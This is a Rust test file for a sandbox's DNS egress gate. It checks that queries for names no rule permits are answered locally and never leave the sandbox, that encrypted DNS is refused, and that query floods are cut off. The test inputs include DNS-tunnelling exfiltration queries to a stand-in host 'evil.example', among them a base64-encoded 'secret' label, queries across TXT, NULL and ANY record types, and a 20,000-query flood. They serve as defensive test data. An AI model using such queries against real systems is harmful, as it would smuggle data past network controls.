//! Questions of a sandbox: all answered here.

use std::io::{Read as _, Write as _};

use super::probe::{address, ask_bytes, connect_to, question};
use super::servers::Seen;
use super::world::{NAMESERVER, Rules, World, case};

#[test]
fn no_question_leaves_that_no_rule_permits() {
    case(|| {
        let world = World::new(&Rules::allowing(&["allowed.example", "*.wild.example"]));
        world.inside(|| {
            for name in ["c2VjcmV0.evil.example", "x.wild.example", "EVIL.example", "a.b.c.d.evil.example"] {
                assert!(address(name).is_some(), "{name}");
            }
            // TXT, NULL, MX, ANY, HTTPS, SVCB, SRV, NS, SOA, PTR, AAAA.
            for kind in [16, 10, 15, 255, 65, 64, 33, 2, 6, 12, 28] {
                for name in ["secret.evil.example", "allowed.example"] {
                    let answer = ask_bytes(NAMESERVER, &question(name, kind)).unwrap();
                    assert_eq!(answer[6..8], [0, 0], "{kind}: no records");
                }
            }
            for name in ["secret", "printer.local", "x.onion", "x.invalid"] {
                assert_eq!(address(name), None, "{name}");
            }
            let mut options = question("secret.evil.example", 1);
            options[11] = 1;
            options.extend(b"\0\0\x29\x10\0\0\0\x80\0\0\x07\0\x03\0\x03abc");
            assert!(ask_bytes(NAMESERVER, &options).is_some());
        });
        world.assert_nothing_left();

        assert!(world.inside(|| address("allowed.example")).is_some());
        let expected: [Seen; 2] = [1, 28].map(|kind| Seen::Question("allowed.example".to_owned(), kind));
        let mut seen = world.internet.seen();
        seen.sort();
        assert_eq!(seen, expected, "a name that a rule lists, as it lists it");
    });
}

#[test]
fn questions_over_streams_are_answered_here_whatever_server_they_are_for() {
    case(|| {
        let world = World::new(&Rules::allowing(&[]));
        for server in ["8.8.8.8:53", "10.0.2.3:53"] {
            let answers = world.inside(|| {
                let mut stream = connect_to(server);
                let message = question("secret.evil.example", 1);
                let length = u16::try_from(message.len()).unwrap().to_be_bytes();
                let twice = [&length[..], &message, &length, &message].concat();
                let (one, two) = twice.split_at(7);
                stream.write_all(one).unwrap();
                stream.write_all(two).unwrap();
                let mut answer = vec![0; 2 * (2 + message.len() + 16)];
                stream.read_exact(&mut answer).unwrap();
                answer
            });
            assert_eq!(answers[2..6], [0x12, 0x34, 0x81, 0x80]);
        }
        let reply = world.inside(|| {
            let mut stream = connect_to("8.8.8.8:853");
            stream.read(&mut [0; 10]).map_err(|error| error.kind())
        });
        assert_eq!(reply, Err(std::io::ErrorKind::ConnectionReset), "encrypted questions need a rule");
        world.assert_nothing_left();
        assert_eq!(world.reasons(), ["not-allowed"]);
    });
}

#[test]
fn a_flood_of_questions_is_cut_and_hurts_no_connection() {
    case(|| {
        let world = World::new(&Rules::allowing(&["allowed.example"]));
        let answered = world.inside(|| {
            let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
            socket.connect(NAMESERVER).unwrap();
            socket.set_nonblocking(true).unwrap();
            for index in 0..20_000 {
                socket.send(&question(&format!("n{index}.evil.example"), 1)).ok();
                if index % 500 == 0 {
                    std::thread::sleep(std::time::Duration::from_millis(1));
                }
            }
            std::thread::sleep(std::time::Duration::from_millis(300));
            let mut bytes = [0; 2000];
            std::iter::from_fn(|| socket.recv(&mut bytes).ok()).count()
        });
        assert!((100..=5000).contains(&answered), "{answered} answers");
        std::thread::sleep(std::time::Duration::from_millis(1100));
        assert!(world.inside(|| super::probe::get("allowed.example", "/")).ends_with("hello from outside"));
        let is_count = |event: &sandtable_egress::event::GateEvent| matches!(event, sandtable_egress::event::GateEvent::Refused { questions, .. } if *questions > 0);
        assert!(world.events().iter().any(is_count));
        assert!(world.internet.seen().iter().all(|it| !format!("{it:?}").contains("evil")));
    });
}
